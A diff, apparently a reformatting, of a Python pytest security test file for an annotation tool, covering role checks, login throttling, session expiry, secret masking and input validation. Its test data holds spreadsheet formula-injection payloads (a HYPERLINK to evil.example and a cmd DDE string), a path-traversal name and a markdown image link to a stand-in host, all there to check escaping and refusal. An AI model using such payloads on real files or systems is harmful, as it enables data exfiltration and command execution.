@@ -1,4 +1,5 @@
-"""Security: roles checked in every service, login throttling, sessions that end, secrets kept out of logs and DB."""
+"""Security: roles checked in every service, login throttling, sessions that end, secrets kept out
+of logs and DB."""
 
 from __future__ import annotations
 
@@ -30,7 +31,8 @@ _REQUIRE = re.compile(r"actor\.require\(\s*[\"']([a-z_]+)[\"']")
 
 
 def _guarded() -> list[tuple[str, str, str]]:
-    """(module, function, permission) for every public service function that checks a literal permission."""
+    """(module, function, permission) for every public service function that checks a literal
+    permission."""
     out = []
     for m in sorted(pkgutil.iter_modules(services_pkg.__path__), key=lambda m: m.name):
         mod = importlib.import_module(f"kocurate.services.{m.name}")
@@ -44,9 +46,11 @@ def _guarded() -> list[tuple[str, str, str]]:
 
 
 GUARDED = _guarded()
-WRITE_NAMES = re.compile(r"^(set_|save_|create|delete|add_|import|export|translate|retranslate|accept_|reject_|"
-                         r"decide|restore|run_|start_|cancel|resume|apply|glossary_(import|replace|sync)|train|use_|"
-                         r"backup|copy|reset_|dedup)")
+WRITE_NAMES = re.compile(
+    r"^(set_|save_|create|delete|add_|import|export|translate|retranslate|accept_|reject_|"
+    r"decide|restore|run_|start_|cancel|resume|apply|glossary_(import|replace|sync)|train|use_|"
+    r"backup|copy|reset_|dedup)"
+)
 # actor-taking functions that write without a role check of their own, and why that is right
 UNGUARDED_OK = {
     "jobs.create": "internal primitive: its callers (translate.start_batch …) check the role first",
@@ -56,7 +60,8 @@ UNGUARDED_OK = {
 
 
 def _wrong_actor(permission: str, ids: dict[str, int]) -> Actor:
-    """The most powerful role that still lacks ``permission`` (an unknown role when every role has it)."""
+    """The most powerful role that still lacks ``permission`` (an unknown role when every role has
+    it)."""
     for role in ("lead", "annotator"):
         if not allowed(role, permission):
             return Actor(ids[role], role, role)
@@ -98,7 +103,10 @@ def _argument(p: inspect.Parameter, ctx: dict[str, Any]) -> Any:
 
 def _snapshot(engine: Engine) -> dict[str, int]:
     with engine.connect() as c:
-        return {t.name: c.execute(select(func.count()).select_from(t)).scalar() for t in Base.metadata.sorted_tables}
+        return {
+            t.name: c.execute(select(func.count()).select_from(t)).scalar()
+            for t in Base.metadata.sorted_tables
+        }
 
 
 @pytest.fixture(scope="module")
@@ -111,31 +119,66 @@ def populated(tmp_path_factory: pytest.TempPathFactory, sqlite_template: Path) -
     with db.session_scope(eng) as s:
         for name, role in (("annotator", "annotator"), ("lead", "lead"), ("admin", "admin")):
             user_service.create_user(s, SYSTEM, name, role, f"{name}-test-pw")
-        s.execute(text("INSERT INTO flags(sample_id, category, origin, state, created_at, updated_at) "
-                       "VALUES (1, 'hate', 'check', 'active', '2026-01-01', '2026-01-01')"))
-        s.execute(text("INSERT INTO edits(sample_id, turn_id, field, kind, before, after, sample_version, meta, "
-                       "created_at) VALUES (1, 1, 'text', 'manual', 'a', 'b', 1, '{}', '2026-01-01')"))
-        s.execute(text("INSERT INTO suggestions(sample_id, turn_id, text, engine, options, based_on_version, state, "
-                       "created_at) VALUES (1, 1, 'x', 'deepl', '{}', 1, 'open', '2026-01-01')"))
-        s.execute(text("INSERT INTO jobs(kind, status, params, done, total, result, created_at, updated_at) "
-                       "VALUES ('translate_batch', 'running', '{}', 0, 0, '{}', '2026-01-01', '2026-01-01')"))
+        s.execute(
+            text(
+                "INSERT INTO flags(sample_id, category, origin, state, created_at, updated_at) "
+                "VALUES (1, 'hate', 'check', 'active', '2026-01-01', '2026-01-01')"
+            )
+        )
+        s.execute(
+            text(
+                "INSERT INTO edits(sample_id, turn_id, field, kind, before, after, sample_version,"
+                " meta, created_at) VALUES (1, 1, 'text', 'manual', 'a', 'b', 1, '{}',"
+                " '2026-01-01')"
+            )
+        )
+        s.execute(
+            text(
+                "INSERT INTO suggestions(sample_id, turn_id, text, engine, options,"
+                " based_on_version, state, created_at) VALUES (1, 1, 'x', 'deepl', '{}', 1, 'open',"
+                " '2026-01-01')"
+            )
+        )
+        s.execute(
+            text(
+                "INSERT INTO jobs(kind, status, params, done, total, result, created_at,"
+                " updated_at) VALUES ('translate_batch', 'running', '{}', 0, 0, '{}', '2026-01-01',"
+                " '2026-01-01')"
+            )
+        )
     eng.dispose()
     return url
 
 
 def test_every_role_gated_service_was_found() -> None:
     names = {f"{m}.{f}" for m, f, _ in GUARDED}
-    assert {"review.save_edit", "review.decide", "datasets.import_dataset", "users.create_user",
-            "backup.backup", "dbcopy.copy_database"} <= names
+    assert {
+        "review.save_edit",
+        "review.decide",
+        "datasets.import_dataset",
+        "users.create_user",
+        "backup.backup",
+        "dbcopy.copy_database",
+    } <= names
     for _m, _f, perm in GUARDED:  # every permission a service asks for is one some role has
         assert any(perm in perms for perms in PERMISSIONS.values()), perm
 
 
-@pytest.mark.parametrize(("module", "function", "permission"), GUARDED, ids=[f"{m}.{f}" for m, f, _ in GUARDED])
-def test_wrong_role_is_refused_and_writes_nothing(module: str, function: str, permission: str, populated: str,
-                                                  tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+@pytest.mark.parametrize(
+    ("module", "function", "permission"), GUARDED, ids=[f"{m}.{f}" for m, f, _ in GUARDED]
+)
+def test_wrong_role_is_refused_and_writes_nothing(
+    module: str,
+    function: str,
+    permission: str,
+    populated: str,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     monkeypatch.setenv("DEEPL_AUTH_KEY", "never-used-key")
-    monkeypatch.setenv("DEEPL_SERVER_URL", "http://127.0.0.1:9")  # closed port: nothing leaves the machine
+    monkeypatch.setenv(
+        "DEEPL_SERVER_URL", "http://127.0.0.1:9"
+    )  # closed port: nothing leaves the machine
     fn = getattr(importlib.import_module(f"kocurate.services.{module}"), function)
     eng = db.make_engine(populated)
     with Session(eng) as s:
@@ -144,17 +187,35 @@ def test_wrong_role_is_refused_and_writes_nothing(module: str, function: str, pe
     before = _snapshot(eng)
     try:
         with Session(eng) as session:
-            ctx = {"session": session, "engine": eng, "engine_or_url": eng, "actor": actor, "tmp_path": tmp_path,
-                   "src_url": populated, "dst_url": f"sqlite:///{tmp_path / 'copy.db'}", "kind": "sharegpt",
-                   "username": "annotator", "role": "admin", "password": "new-password-1", "text": "새 글",
-                   "decision": "approve", "state": "confirmed", "query": "안녕", "expected_version": 1,
-                   "active": False}
+            ctx = {
+                "session": session,
+                "engine": eng,
+                "engine_or_url": eng,
+                "actor": actor,
+                "tmp_path": tmp_path,
+                "src_url": populated,
+                "dst_url": f"sqlite:///{tmp_path / 'copy.db'}",
+                "kind": "sharegpt",
+                "username": "annotator",
+                "role": "admin",
+                "password": "new-password-1",
+                "text": "새 글",
+                "decision": "approve",
+                "state": "confirmed",
+                "query": "안녕",
+                "expected_version": 1,
+                "active": False,
+            }
             sig = inspect.signature(fn)
-            args = {n: _argument(p, ctx) for n, p in sig.parameters.items()
-                    if p.default is inspect.Parameter.empty and p.kind not in (p.VAR_KEYWORD, p.VAR_POSITIONAL)}
+            args = {
+                n: _argument(p, ctx)
+                for n, p in sig.parameters.items()
+                if p.default is inspect.Parameter.empty
+                and p.kind not in (p.VAR_KEYWORD, p.VAR_POSITIONAL)
+            }
             if "if not actor.can(" in inspect.getsource(fn):
-                # a view scoped by role (an annotator sees only their own figures): refused or answered,
-                # but never a write
+                # a view scoped by role (an annotator sees only their own figures): refused or
+                # answered, but never a write
                 try:
                     fn(**args)
                 except PermissionDenied:
@@ -210,17 +271,23 @@ def test_jobs_cancel_and_resume_check_the_kind_permission(populated: str) -> Non
 
 
 def _age_attempts(engine: Engine, seconds: float) -> None:
-    """Move every recorded login attempt ``seconds`` into the past (time passing, without sleeping)."""
+    """Move every recorded login attempt ``seconds`` into the past (time passing, without
+    sleeping)."""
     with db.session_scope(engine) as s:
         for row in s.scalars(select(LoginAttempt)):
             row.at = row.at - timedelta(seconds=seconds)
 
 
-def test_login_throttling_grows_delays_but_never_locks_the_real_user_out(engine: Engine,
-                                                                          actors: dict[str, Actor]) -> None:
-    """Issue 20.4: a guesser on another address cannot lock the account; delays grow; no hard lock."""
+def test_login_throttling_grows_delays_but_never_locks_the_real_user_out(
+    engine: Engine, actors: dict[str, Actor]
+) -> None:
+    """Issue 20.4: a guesser on another address cannot lock the account; delays grow; no hard
+    lock."""
     with Session(engine) as s:  # the real user logged in from their own address before
-        assert user_service.authenticate(s, "admin", "admin-test-pw", client="10.0.0.5").role == "admin"
+        assert (
+            user_service.authenticate(s, "admin", "admin-test-pw", client="10.0.0.5").role
+            == "admin"
+        )
     with Session(engine) as s:
         for i in range(user_service.FREE_PER_NAME):
             with pytest.raises(AuthError, match="^wrong user name or password$"):
@@ -229,21 +296,34 @@ def test_login_throttling_grows_delays_but_never_locks_the_real_user_out(engine:
         with pytest.raises(AuthError, match="too many failed logins.*wait 1 s"):
             user_service.authenticate(s, "admin", "admin-test-pw", client="203.0.113.9")
         # the real user, from the address they used before, is not held back: right password works
-        assert user_service.authenticate(s, "admin", "admin-test-pw", client="10.0.0.5").role == "admin"
+        assert (
+            user_service.authenticate(s, "admin", "admin-test-pw", client="10.0.0.5").role
+            == "admin"
+        )
         # a brand-new address has to wait the (short) account delay, then gets in: no hard lock
         with pytest.raises(AuthError, match="too many failed logins"):
             user_service.authenticate(s, "admin", "admin-test-pw", client="198.51.100.7")
     _age_attempts(engine, 2)
     with Session(engine) as s:
-        assert user_service.authenticate(s, "admin", "admin-test-pw", client="198.51.100.7").role == "admin"
+        assert (
+            user_service.authenticate(s, "admin", "admin-test-pw", client="198.51.100.7").role
+            == "admin"
+        )
     with Session(engine) as s:  # the delay doubles with every further failure
         for i in range(user_service.FREE_PER_NAME + 3):
-            _age_attempts(engine, 121)  # each try after the previous delay ran out (delays cap at 120 s)
+            _age_attempts(
+                engine, 121
+            )  # each try after the previous delay ran out (delays cap at 120 s)
             with pytest.raises(AuthError, match="^wrong user name or password$"):
                 user_service.authenticate(s, "lead", f"guess-{i}", client="203.0.113.10")
-        assert 7 <= user_service.wait_seconds(s, "lead", "203.0.113.10") <= 8  # 2**3 s after the 8th failure
+        assert (
+            7 <= user_service.wait_seconds(s, "lead", "203.0.113.10") <= 8
+        )  # 2**3 s after the 8th failure
         # another account is not affected
-        assert user_service.authenticate(s, "annotator", "annotator-test-pw", client="192.0.2.1").role == "annotator"
+        assert (
+            user_service.authenticate(s, "annotator", "annotator-test-pw", client="192.0.2.1").role
+            == "annotator"
+        )
 
 
 def test_unknown_user_names_are_throttled_alike(engine: Engine, actors: dict[str, Actor]) -> None:
@@ -258,25 +338,36 @@ def test_unknown_user_names_are_throttled_alike(engine: Engine, actors: dict[str
             assert "too many failed logins" in str(err.value)
 
 
-def test_per_client_and_global_throttles(engine: Engine, actors: dict[str, Actor],
-                                         monkeypatch: pytest.MonkeyPatch) -> None:
+def test_per_client_and_global_throttles(
+    engine: Engine, actors: dict[str, Actor], monkeypatch: pytest.MonkeyPatch
+) -> None:
     with Session(engine) as s:
-        for i in range(user_service.FREE_PER_CLIENT):  # a different name each time: only the address repeats
+        for i in range(
+            user_service.FREE_PER_CLIENT
+        ):  # a different name each time: only the address repeats
             with pytest.raises(AuthError, match="^wrong user name or password$"):
                 user_service.authenticate(s, f"name-{i}", "guess", client="203.0.113.50")
         with pytest.raises(AuthError, match="too many failed logins"):
             user_service.authenticate(s, "lead", "lead-test-pw", client="203.0.113.50")
-        assert user_service.authenticate(s, "lead", "lead-test-pw", client="203.0.113.51").role == "lead"
+        assert (
+            user_service.authenticate(s, "lead", "lead-test-pw", client="203.0.113.51").role
+            == "lead"
+        )
         monkeypatch.setattr(user_service, "GLOBAL_PER_MINUTE", user_service.FREE_PER_CLIENT)
-        with pytest.raises(AuthError, match="too many failed logins"):  # many failures overall: unknown clients wait
+        with pytest.raises(
+            AuthError, match="too many failed logins"
+        ):  # many failures overall: unknown clients wait
             user_service.authenticate(s, "annotator", "annotator-test-pw", client="192.0.2.77")
         # a client known for the account still gets in
-        assert user_service.authenticate(s, "lead", "lead-test-pw", client="203.0.113.51").role == "lead"
+        assert (
+            user_service.authenticate(s, "lead", "lead-test-pw", client="203.0.113.51").role
+            == "lead"
+        )
 
 
 def test_known_and_unknown_users_cost_the_same(engine: Engine, actors: dict[str, Actor]) -> None:
-    """Issue 20.6: one scrypt for unknown users as for known ones (it was two); the times themselves are
-    measured by benchmarks/security.py."""
+    """Issue 20.6: one scrypt for unknown users as for known ones (it was two); the times themselves
+    are measured by benchmarks/security.py."""
     from kocurate.services import auth as auth_mod
 
     calls: list[int] = []
@@ -290,21 +381,30 @@ def test_known_and_unknown_users_cost_the_same(engine: Engine, actors: dict[str,
     try:
         costs = {}
         with Session(engine) as s:
-            for who, name in (("known", "lead"), ("unknown", "nobody-at-all"), ("disabled", "annotator2")):
+            for who, name in (
+                ("known", "lead"),
+                ("unknown", "nobody-at-all"),
+                ("disabled", "annotator2"),
+            ):
                 if who == "disabled":
                     with db.session_scope(engine) as w:
                         user_service.set_active(w, SYSTEM, name, False)
                 calls.clear()
                 with pytest.raises(AuthError) as err:
-                    user_service.authenticate(s, name, "wrong-password", client=f"192.0.2.{len(name)}")
+                    user_service.authenticate(
+                        s, name, "wrong-password", client=f"192.0.2.{len(name)}"
+                    )
                 costs[who] = (len(calls), str(err.value))
     finally:
         auth_mod.hashlib.scrypt = real  # type: ignore[assignment]
-    assert costs == {k: (1, "wrong user name or password") for k in ("known", "unknown", "disabled")}
+    assert costs == {
+        k: (1, "wrong user name or password") for k in ("known", "unknown", "disabled")
+    }
 
 
 def test_login_works_on_a_read_only_database(tmp_path: Path, sqlite_template: Path) -> None:
-    """Issue 20.8: bookkeeping writes are best-effort; the login still succeeds (and failures still count)."""
+    """Issue 20.8: bookkeeping writes are best-effort; the login still succeeds (and failures still
+    count)."""
     path = tmp_path / "ro.db"
     path.write_bytes(sqlite_template.read_bytes())
     rw = db.make_engine(f"sqlite:///{path}")
@@ -313,7 +413,10 @@ def test_login_works_on_a_read_only_database(tmp_path: Path, sqlite_template: Pa
     rw.dispose()
     ro = db.make_engine(f"sqlite:///file:{path}?mode=ro&uri=true")
     with Session(ro) as s:
-        assert user_service.authenticate(s, "reader", "reader-test-pw", client="192.0.2.3").username == "reader"
+        assert (
+            user_service.authenticate(s, "reader", "reader-test-pw", client="192.0.2.3").username
+            == "reader"
+        )
         for i in range(user_service.FREE_PER_NAME):
             with pytest.raises(AuthError, match="^wrong user name or password$"):
                 user_service.authenticate(s, "reader", f"guess-{i}", client="192.0.2.4")
@@ -343,8 +446,9 @@ def test_passwords_are_stored_hashed(engine: Engine, actors: dict[str, Actor]) -
         assert f"{name}-test-pw" not in stored and stored.startswith("scrypt$")
 
 
-def test_sessions_expire(db_url: str, engine: Engine, actors: dict[str, Actor],
-                         monkeypatch: pytest.MonkeyPatch) -> None:
+def test_sessions_expire(
+    db_url: str, engine: Engine, actors: dict[str, Actor], monkeypatch: pytest.MonkeyPatch
+) -> None:
     ui = pytest.importorskip("kocurate.ui")
     if not all(hasattr(ui, n) for n in ("_token", "_actor_from_token", "session_hours")):
         pytest.skip("kocurate.ui has no signed login token")
@@ -360,7 +464,9 @@ def test_sessions_expire(db_url: str, engine: Engine, actors: dict[str, Actor],
         assert ui._actor_from_token(ui._token(ann, old)) is None  # expired
         uid, at, gen, sig = token.split(".")
         assert ui._actor_from_token(f"{uid}.{at}.{gen}.{'0' * len(sig)}") is None  # forged
-        assert ui._actor_from_token(f"{actors['admin'].id}.{at}.{gen}.{sig}") is None  # someone else's id
+        assert (
+            ui._actor_from_token(f"{actors['admin'].id}.{at}.{gen}.{sig}") is None
+        )  # someone else's id
         with db.session_scope(engine) as s:
             user_service.reset_password(s, SYSTEM, "annotator", "brand-new-pw-1")
         assert ui._actor_from_token(token) is None  # a password reset ends every session
@@ -371,9 +477,13 @@ def test_sessions_expire(db_url: str, engine: Engine, actors: dict[str, Actor],
 # ------------------------------------------------------------------------------------ secrets
 
 
-def test_deepl_key_never_in_logs_or_database(engine: Engine, actors: dict[str, Actor],
-                                             monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
-                                             tmp_path: Path) -> None:
+def test_deepl_key_never_in_logs_or_database(
+    engine: Engine,
+    actors: dict[str, Actor],
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+    tmp_path: Path,
+) -> None:
     tr = pytest.importorskip("kocurate.services.translate")
     fake = pytest.importorskip("fake_deepl")
     key = "SECRET-deepl-key-7f3a9c:fx"
@@ -382,7 +492,9 @@ def test_deepl_key_never_in_logs_or_database(engine: Engine, actors: dict[str, A
         monkeypatch.setenv("DEEPL_AUTH_KEY", key)
         monkeypatch.setenv("DEEPL_SERVER_URL", srv.url)
         caplog.set_level(logging.DEBUG)
-        import_files(engine, "sharegpt", DEMO / "sharegpt_ko.json", DEMO / "sharegpt_en.json", name="sg")
+        import_files(
+            engine, "sharegpt", DEMO / "sharegpt_ko.json", DEMO / "sharegpt_en.json", name="sg"
+        )
         with db.session_scope(engine) as s:
             turn_id = s.scalar(text("SELECT min(id) FROM turns WHERE source_text IS NOT NULL"))
             tr.retranslate_turn(s, actors["annotator"], turn_id)
@@ -414,7 +526,9 @@ def test_passwords_not_logged(engine: Engine, caplog: pytest.LogCaptureFixture) 
                 user_service.authenticate(s, "logcheck", "other-guess-not-leaked")
     finally:
         logging.getLogger("sqlalchemy.engine").setLevel(logging.WARNING)
-    assert "pw-that-must-not-leak" not in caplog.text and "other-guess-not-leaked" not in caplog.text
+    assert (
+        "pw-that-must-not-leak" not in caplog.text and "other-guess-not-leaked" not in caplog.text
+    )
 
 
 # ------------------------------------------------------------------ issue 20.3: decompression bombs
@@ -452,7 +566,9 @@ def test_gzip_bomb_stops_at_the_ratio_limit_while_reading(tmp_path: Path) -> Non
     assert peak < 100 << 20, f"{peak / 2**20:.0f} MB held while reading a bomb"
 
 
-def test_line_record_and_file_limits_name_the_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_line_record_and_file_limits_name_the_limit(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     import gzip
     import json as _json
 
@@ -465,8 +581,15 @@ def test_line_record_and_file_limits_name_the_limit(tmp_path: Path, monkeypatch:
     jsonl.write_bytes(gzip.compress(f"{long}\n{good}\n".encode()))
     monkeypatch.setenv("KOCURATE_MAX_LINE_BYTES", "2000")
     got = list(iter_records(jsonl))
-    assert isinstance(got[0][1], ImportFailed) and "line limit" in str(got[0][1]) and got[0][0] == "line 1"
-    assert got[1] == ("line 2", {"instruction": "hi", "output": "there"})  # the next line is still read
+    assert (
+        isinstance(got[0][1], ImportFailed)
+        and "line limit" in str(got[0][1])
+        and got[0][0] == "line 1"
+    )
+    assert got[1] == (
+        "line 2",
+        {"instruction": "hi", "output": "there"},
+    )  # the next line is still read
 
     array = tmp_path / "records.json"
     array.write_text(f"[{good}, {long}]")
@@ -495,11 +618,17 @@ def _cli(*args: str, env: dict[str, str] | None = None) -> Any:
     import sys
 
     code = "import sys; from kocurate.cli import main; sys.argv[0] = 'kocurate'; main()"
-    return subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True, timeout=300,
-                          env={**os.environ, **(env or {})})
+    return subprocess.run(
+        [sys.executable, "-c", code, *args],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        env={**os.environ, **(env or {})},
+    )
 
 
-# ------------------------------------------------------------------ issue 20.9 / 20.11: CLI messages
+# ------------------------------------------------------------------ issue 20.9 / 20.11: CLI
+# messages
 
 
 def test_db_upgrade_masks_the_password(db_url: str) -> None:
@@ -509,7 +638,8 @@ def test_db_upgrade_masks_the_password(db_url: str) -> None:
 
     u = make_url(db_url).set(password="Sup3r-s3cret-pw")
     with_pw = u.render_as_string(hide_password=False)
-    # the test server trusts local connections, so this password is accepted (or refused: masked either way)
+    # the test server trusts local connections, so this password is accepted (or refused: masked
+    # either way)
     proc = _cli("--db", with_pw, "db", "upgrade")
     assert "Sup3r-s3cret-pw" not in proc.stdout + proc.stderr
     assert "Traceback" not in proc.stderr
@@ -517,7 +647,9 @@ def test_db_upgrade_masks_the_password(db_url: str) -> None:
 
 
 def test_cli_unreachable_database_prints_one_line_and_no_traceback() -> None:
-    proc = _cli("--db", "postgresql+psycopg://kocurate:Sup3r-s3cret-pw@127.0.0.1:1/kocurate", "datasets")
+    proc = _cli(
+        "--db", "postgresql+psycopg://kocurate:Sup3r-s3cret-pw@127.0.0.1:1/kocurate", "datasets"
+    )
     assert proc.returncode == 1
     assert proc.stderr.startswith("error: cannot connect to the database")
     assert "Traceback" not in proc.stderr and "typer.exceptions.Exit" not in proc.stderr
@@ -533,17 +665,31 @@ def test_glossary_export_escapes_formula_cells_and_round_trips(engine: Engine) -
 
     from kocurate.services import translate as tr_service
 
-    rows = [("=HYPERLINK(\"http://evil.example/?x\",\"click\")", "링크", "=1+2"),
-            ("+cmd|' /C calc'!A0", "명령", None), ("@SUM(1+1)", "합계", "@note"), ("-ish", "-스러운", "-")]
+    rows = [
+        ('=HYPERLINK("http://evil.example/?x","click")', "링크", "=1+2"),
+        ("+cmd|' /C calc'!A0", "명령", None),
+        ("@SUM(1+1)", "합계", "@note"),
+        ("-ish", "-스러운", "-"),
+    ]
     with db.session_scope(engine) as s:
-        tr_service.glossary_import(s, SYSTEM, "\n".join(
-            ",".join('"' + c.replace('"', '""') + '"' for c in (a, b, n or "")) for a, b, n in rows))
+        tr_service.glossary_import(
+            s,
+            SYSTEM,
+            "\n".join(
+                ",".join('"' + c.replace('"', '""') + '"' for c in (a, b, n or ""))
+                for a, b, n in rows
+            ),
+        )
         out = tr_service.glossary_export(s, SYSTEM)
     cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], out
     assert "'=HYPERLINK(" in out and "'+cmd|" in out and "'@SUM" in out
     with db.session_scope(engine) as s:  # our own export imports back unchanged
-        assert tr_service.glossary_import(s, SYSTEM, out, replace=True) == {"added": 0, "updated": 0, "removed": 0}
+        assert tr_service.glossary_import(s, SYSTEM, out, replace=True) == {
+            "added": 0,
+            "updated": 0,
+            "removed": 0,
+        }
         got = {(t["source"], t["target"], t["note"]) for t in tr_service.glossary_terms(s)}
     assert got == {(a, b, n) for a, b, n in rows}
 
@@ -551,14 +697,37 @@ def test_glossary_export_escapes_formula_cells_and_round_trips(engine: Engine) -
 # ------------------------------------------------------------------ issue 20.14: dataset names
 
 
-@pytest.mark.parametrize("name", ["../../etc/evil", "a/b", "a\\b", "![x](http://evil.example/p.png)", "<b>x</b>",
-                                  "tab\there", "line\nbreak", "rtl\u202eexe", "`code`", "$x$"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../../etc/evil",
+        "a/b",
+        "a\\b",
+        "![x](http://evil.example/p.png)",
+        "<b>x</b>",
+        "tab\there",
+        "line\nbreak",
+        "rtl\u202eexe",
+        "`code`",
+        "$x$",
+    ],
+)
 def test_cli_import_refuses_bad_dataset_names_and_writes_nothing(tmp_path: Path, name: str) -> None:
     bad = tmp_path / "mixed.jsonl"
     bad.write_text('{"instruction": "안녕", "output": "하세요"}\nnot json\n')
     dbfile = tmp_path / "k.db"
-    proc = _cli("--db", str(dbfile), "import", "koalpaca", str(bad), "--name", name, "--skip-bad", "--no-index",
-                "--no-checks")
+    proc = _cli(
+        "--db",
+        str(dbfile),
+        "import",
+        "koalpaca",
+        str(bad),
+        "--name",
+        name,
+        "--skip-bad",
+        "--no-index",
+        "--no-checks",
+    )
     assert proc.returncode == 1, proc.stdout
     assert proc.stderr.startswith("error: dataset name") and "Traceback" not in proc.stderr
     eng = db.make_engine(f"sqlite:///{dbfile}")
@@ -583,11 +752,15 @@ def test_default_dataset_name_from_an_odd_file_name_is_made_safe(tmp_path: Path)
 # ------------------------------------------------------------------ issue 13.5: admin safety, audit
 
 
-def test_last_active_admin_cannot_be_demoted_or_disabled(engine: Engine, actors: dict[str, Actor]) -> None:
+def test_last_active_admin_cannot_be_demoted_or_disabled(
+    engine: Engine, actors: dict[str, Actor]
+) -> None:
     from kocurate.errors import KocurateError
 
     with db.session_scope(engine) as s:
-        admins = [u.username for u in user_service.list_users(s, SYSTEM) if u.role == "admin" and u.active]
+        admins = [
+            u.username for u in user_service.list_users(s, SYSTEM) if u.role == "admin" and u.active
+        ]
     assert admins == ["admin"]
     with db.session_scope(engine) as s, pytest.raises(KocurateError, match="last active admin"):
         user_service.set_role(s, actors["admin"], "admin", "lead")
@@ -618,12 +791,21 @@ def test_user_changes_and_logins_are_audited(engine: Engine, actors: dict[str, A
     with db.session_scope(engine) as s:
         user_service.end_sessions(s, Actor(actors["lead"].id, "lead", "lead"))
     with db.session_scope(engine) as s:
-        got = [(e.action, e.username, e.target) for e in reversed(audit.events(s, admin))
-               if e.target == "newbie" or e.username in ("newbie", "lead")]
-    assert got == [("user_created", "admin", "newbie"), ("role_change", "admin", "newbie"),
-                   ("user_disabled", "admin", "newbie"), ("user_enabled", "admin", "newbie"),
-                   ("password_reset", "admin", "newbie"), ("login", "newbie", None),
-                   ("login_failed", "-", "newbie"), ("logout", "lead", None)]
+        got = [
+            (e.action, e.username, e.target)
+            for e in reversed(audit.events(s, admin))
+            if e.target == "newbie" or e.username in ("newbie", "lead")
+        ]
+    assert got == [
+        ("user_created", "admin", "newbie"),
+        ("role_change", "admin", "newbie"),
+        ("user_disabled", "admin", "newbie"),
+        ("user_enabled", "admin", "newbie"),
+        ("password_reset", "admin", "newbie"),
+        ("login", "newbie", None),
+        ("login_failed", "-", "newbie"),
+        ("logout", "lead", None),
+    ]
 
 
 def test_cli_users_enable_and_end_sessions(tmp_path: Path) -> None:
@@ -634,12 +816,22 @@ def test_cli_users_enable_and_end_sessions(tmp_path: Path) -> None:
     assert res.returncode == 0 and "ann enabled" in res.stdout
     eng = db.make_engine(f"sqlite:///{dbfile}")
     with eng.connect() as c:
-        gen = c.execute(text("SELECT session_generation FROM users WHERE username = 'ann'")).scalar()
+        gen = c.execute(
+            text("SELECT session_generation FROM users WHERE username = 'ann'")
+        ).scalar()
     res = _cli("--db", dbfile, "users", "end-sessions", "ann")
     assert res.returncode == 0, res.stderr
     with eng.connect() as c:
-        assert c.execute(text("SELECT session_generation FROM users WHERE username = 'ann'")).scalar() == gen + 1
-        assert c.execute(text("SELECT action FROM audit_events ORDER BY id DESC LIMIT 1")).scalar() == "logout"
+        assert (
+            c.execute(text("SELECT session_generation FROM users WHERE username = 'ann'")).scalar()
+            == gen + 1
+        )
+        assert (
+            c.execute(text("SELECT action FROM audit_events ORDER BY id DESC LIMIT 1")).scalar()
+            == "logout"
+        )
     eng.dispose()
     res = _cli("--db", dbfile, "users", "end-sessions", "nobody")
-    assert res.returncode == 1 and "no user 'nobody'" in res.stderr and "Traceback" not in res.stderr
+    assert (
+        res.returncode == 1 and "no user 'nobody'" in res.stderr and "Traceback" not in res.stderr
+    )
